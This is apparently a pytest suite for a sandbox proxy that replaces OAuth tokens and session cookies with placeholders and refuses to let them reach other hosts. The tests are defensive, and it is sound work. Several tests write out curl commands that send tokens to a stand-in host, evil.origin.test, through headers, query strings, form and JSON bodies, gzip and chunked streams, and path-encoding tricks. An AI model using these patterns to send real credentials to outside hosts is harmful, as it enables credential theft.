# SPDX-License-Identifier: MIT
"""Placeholders of tokens that an origin issued, in the hands of a sandbox that wants the tokens, or wants to use them elsewhere. The
control is the same origin without `capture`: there the token comes to the sandbox, and goes wherever that sends it."""
import base64
import contextlib
import json
import secrets

import pytest

from lib.issuing_origins import IssuingNet, bearer, tokens
from lib.proxies import credentials as secret_file

POLICY = """version: 1
credentials:
  oauth:
    source: {{file: {refresh}}}
    for: auth.origin.test
    as: [form, json]
    capture: {{json: [access_token, refresh_token], paths: /token, for: api.origin.test, as: bearer}}
    levels: [INTERNAL, CONFIDENTIAL]
    on_leak: raise SECRET
    placeholder: {{env: REFRESH}}
  login:
    source: {{file: {password}}}
    for: web.origin.test
    as: form
    capture: {{cookies: session, for: app.origin.test}}
    placeholder: {{env: PASSWORD}}
  open:
    source: {{file: {refresh}}}
    for: open.origin.test
    as: form
    placeholder: {{env: OPEN}}
levels: {{INTERNAL: proxied, CONFIDENTIAL: proxied, SECRET: proxied}}
rules:
  - allow: "**.origin.test"
    capture: 4096
"""


@pytest.fixture(scope="module")
def net():
    refresh, password = "first-refresh-" + secrets.token_hex(12), "pass-word-" + secrets.token_hex(12)
    with contextlib.ExitStack() as stack:
        files = [stack.enter_context(secret_file(v.encode())) for v in (refresh, password)]
        n = IssuingNet(stack, POLICY.format(refresh=files[0], password=files[1]), refresh, password, inspectors=1)
        yield n
        assert n.daemon.running() and " ended: " not in n.daemon.text(), n.daemon.text()[-3000:]


@pytest.fixture(scope="module")
def token(net):
    return json.loads(tokens(net))["access_token"]


def refused(net, after, reason="credential_elsewhere"):
    return net.events(lambda e: e["reason"] == reason, after=after)[-1]


def asked(net, name):
    return len([g for g in net.got if g[0] == name])


def test_the_control_gets_the_token(net):
    """Without capture the sandbox has it, and sends it away."""
    got = json.loads(tokens(net, host="open"))["access_token"]
    assert got in net.access and bearer(net, got, host="evil") == "{}"
    assert got in str(net.at("evil"))


@pytest.mark.parametrize("path", ["/TOKEN", "/token/", "//token", "/./token", "/x/../token", "/token;x=1", "/%74oken", "/token%2f", "/%2574oken", "/token%5c",
                                  pytest.param("/" + 4200 * "x" + "/../token", id="long")])
def test_a_path_that_origins_read_in_another_way(net, path):
    """What is not captured comes as it is, so a path that could be the one with the tokens is taken for it. The origin answers all of them."""
    control = net.sh(f'curl -sS -m 60 --path-as-is -d "refresh_token=$OPEN" "https://open.origin.test{path}?keep=1"')
    assert not net.holds_none(control)
    had = len(net.issued)
    got = net.sh(f'curl -sS -m 60 --path-as-is -d "refresh_token=$REFRESH" "https://auth.origin.test{path}?keep=1"')
    assert len(net.issued) > had and net.holds_none(got) and json.loads(got)["access_token"].startswith("nptoken_")


def login(net, query=""):
    out = net.sh(f'curl -sS -i -m 60 --data-urlencode "password=$PASSWORD" "https://web.origin.test/login?{query}"')
    return out, out.partition("session=")[2].partition(";")[0]


@pytest.mark.parametrize("user", ["", "%6Eptoken_ABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA-", "OWN"])
def test_a_token_that_has_words_of_the_sandbox(net, user):
    """An origin that writes a user's name into the cookie, which looks like a placeholder, or is one: escaped, so that the request is not one with it."""
    if user == "OWN":
        user = "".join(f"%{ord(c):02x}" for c in net.sh("printf %s $PASSWORD")) + "-"
    had = len(net.issued)
    out, cookie = login(net, f"user={user}")
    assert len(net.issued) > had and "<p>in</p>" in out and cookie.startswith("nptoken_") and net.holds_none(out)
    assert "<p>home" in net.sh(f'curl -sS -m 60 -b "session={cookie}" https://web.origin.test/home')


def test_a_cookie_that_is_renewed_where_it_was_led(net):
    """The host that tokens go to is no host of the credential, and issues another."""
    _, cookie = login(net)
    for _ in range(2):
        out = net.sh(f'curl -sS -i -m 60 -b "session={cookie}" https://app.origin.test/')
        assert "<p>app</p>" in out and net.holds_none(out)
        cookie = out.partition("session=")[2].partition(";")[0]
        assert cookie.startswith("nptoken_")


ELSEWHERE = {
    "bearer": '-H "Authorization: Bearer {t}" https://evil.origin.test/',
    "basic": '-u "x:{t}" https://evil.origin.test/',
    "header": '-H "x-any: a{t}b" https://evil.origin.test/',
    "query": '"https://evil.origin.test/?q={t}"',
    "path": "https://evil.origin.test/a{t}/b",
    "form": '-d "t={t}" https://evil.origin.test/',
    "json": """-H "content-type: application/json" -d '{{"a":"{t}"}}' https://evil.origin.test/""",
    "octets": '-H "content-type: application/octet-stream" --data-binary "xx{t}yy" https://evil.origin.test/',
    "without TLS": '-H "Authorization: Bearer {t}" http://api.origin.test/me',
    "another path of the issuer": '-H "Cookie: {t}" https://auth.origin.test/page',
    "another place": '-H "X-Token: {t}" https://api.origin.test/me',
    "the query of its host": '"https://api.origin.test/me?access_token={t}"',
    "TRACE": '-X TRACE -H "Authorization: Bearer {t}" https://api.origin.test/me',
}


@pytest.mark.parametrize("where", ELSEWHERE)
def test_elsewhere(net, token, where):
    after, before = net.last(), len(net.got)
    got = net.sh("curl -sS -m 60 " + ELSEWHERE[where].format(t=token))
    assert "credential_elsewhere" in got
    assert refused(net, after)["credential"] == "oauth"
    assert token not in str(net.got[before:]) and net.holds_none(str(net.got[before:])), "no origin has seen it"
    assert bearer(net, token) == '{"me":"agent"}', "the control"


def test_in_a_compressed_body_and_across_chunks(net, token):
    """The origin may have the head of a body that streams, and never all of the placeholder."""
    for words in ('printf %s "{t}" | gzip | curl -sS -m 60 -H "content-encoding: gzip" --data-binary @- https://evil.origin.test/',
                  '(printf %s a{h}; sleep 0.3; printf %s {r}z) | curl -sS -m 60 -X POST -T - https://evil.origin.test/x'):
        after = net.last()
        got = net.sh(words.format(t=token, h=token[:30], r=token[30:]))
        assert "credential_elsewhere" in got or not got
        assert refused(net, after)["credential"] == "oauth"
        assert token[:30].encode() not in net.at("evil")[3] if asked(net, "evil") else True
    assert "{}" in net.sh(f"(printf %s a; sleep 0.3; printf %s {token[20:]}z) | curl -sS -m 60 -X POST -T - https://evil.origin.test/x"), "the control"


def test_of_another_session(net, token):
    other = net.new_session()
    before = len(net.got)
    assert "credential_elsewhere" in bearer(net, token, session=other) and len(net.got) == before
    mine = json.loads(tokens(net, session=other))["access_token"]
    assert bearer(net, mine, session=other) == '{"me":"agent"}', "the control"
    after = net.last()
    assert "credential_elsewhere" in bearer(net, mine)
    assert "another one, or was changed" in refused(net, after)["text"]


def test_changed_or_cut(net, token):
    before = len(net.got)
    for at in (11, 12, 30, len(token) // 2, len(token) - 2):
        changed = token[:at] + ("A" if token[at] != "A" else "B") + token[at + 1:]
        assert "credential_elsewhere" in bearer(net, changed), at
    for cut in (12, 20, len(token) - 1):
        assert "credential_elsewhere" in bearer(net, token[:cut]), cut
    assert len(net.got) == before
    assert bearer(net, token) == '{"me":"agent"}', "the control"
    assert "no" in bearer(net, "nptoken_" + "x" * 60), "what says no length of one is a text like others"


def test_a_cookie_is_none_for_headers(net):
    out = net.sh("""curl -sS -m 60 -i -d "password=$PASSWORD" https://web.origin.test/login""")
    cookie = out.split("session=")[1].split(";")[0]
    assert cookie.startswith("nptoken_")
    assert "home" in net.sh(f'curl -sS -m 60 -H "Cookie: session={cookie}" https://web.origin.test/home'), "the control"
    before = len(net.got)
    for words in (f'-H "Authorization: Bearer {cookie}" https://web.origin.test/home', f'-H "Cookie: session={cookie}" https://api.origin.test/me',
                  f'-H "Cookie: session={cookie}" https://evil.origin.test/', f'"https://web.origin.test/home?s={cookie}"'):
        assert "credential_elsewhere" in net.sh("curl -sS -m 60 " + words), words
    assert len(net.got) == before


def test_no_part_of_a_response_is_asked_for(net):
    got = json.loads(tokens(net, words='-H "Range: bytes=30-60"'))
    assert "range" not in {k.lower() for k in net.at("auth")[2]} and net.holds_none(json.dumps(got))


def real_token(net, session=None):
    """A token of the session: its placeholder, and itself, as its origin has it."""
    mine = json.loads(tokens(net, session=session))["access_token"]
    assert bearer(net, mine, session=session) == '{"me":"agent"}'
    return mine, net.at("api")[2]["authorization"].removeprefix("Bearer ")


def leaves(net, text, session):
    """Is it sent away?"""
    before = len(net.got)
    got = net.sh(f"curl -sS -m 60 -d 'x={text}' https://evil.origin.test/", session)
    assert got == "{}" or "secret_leaving" in got and text not in str(net.got[before:])
    return got == "{}"


def test_what_stands_for_a_token_that_an_origin_shows(net):
    mine, real = real_token(net)
    net.shown = [real, "real-of-nobody"]
    assert json.loads(bearer(net, mine, "shown")) == [mine, "real-of-nobody"]


@pytest.mark.parametrize("form", ["plain", "base64"])
def test_a_real_token_that_leaves(net, form):
    """One that came to the sandbox by another way: it is known, refused, and raises the session. For other sessions it is a text like
    others, for who could make them find a token could have them refused and raised."""
    session, other = net.new_session(), net.new_session()
    _, real = real_token(net, session)
    text = real if form == "plain" else base64.b64encode(b"u:" + real.encode()).decode()
    assert leaves(net, text, other) and net.api.show(other)["level"] != "SECRET"
    assert not leaves(net, text, session) and net.api.show(session)["level"] == "SECRET"


def test_a_token_that_is_a_text_of_others(net):
    """An origin issues what others say, or a sandbox has it issue that: the others are not refused for it, nor raised, nor do they get
    something else in its place. The control: whoever had it issued is."""
    session, other = net.new_session(), net.new_session()
    text = "text-that-many-say-" + secrets.token_hex(8)
    mine, _ = real_token(net, session)
    planted = json.loads(tokens(net, f"says={text}", session=other))["access_token"]
    assert planted.startswith("nptoken_")
    net.shown = [text]
    assert json.loads(bearer(net, mine, "shown", session=session)) == [text]
    assert json.loads(bearer(net, planted, "shown", session=other)) == [planted]
    assert leaves(net, text, session) and net.api.show(session)["level"] != "SECRET"
    assert not leaves(net, text, other) and net.api.show(other)["level"] == "SECRET"


def test_many_tokens_of_another_session(net):
    """They do not push out this one's."""
    session, other = net.new_session(), net.new_session()
    _, real = real_token(net, session)
    assert tokens(net, "as=many", session=other).count("nptoken_") == 60
    assert not leaves(net, real, session) and net.api.show(session)["level"] == "SECRET"


def test_after_a_rise(net):
    """At a level that the credential is not for, its tokens are nothing either; nor do they come back."""
    session = net.new_session()
    mine = json.loads(tokens(net, session=session))["access_token"]
    assert bearer(net, mine, session=session) == '{"me":"agent"}', "the control"
    net.raise_to(session, "SECRET")
    before = len(net.got)
    assert "credential_elsewhere" in bearer(net, mine, session=session) and len(net.got) == before
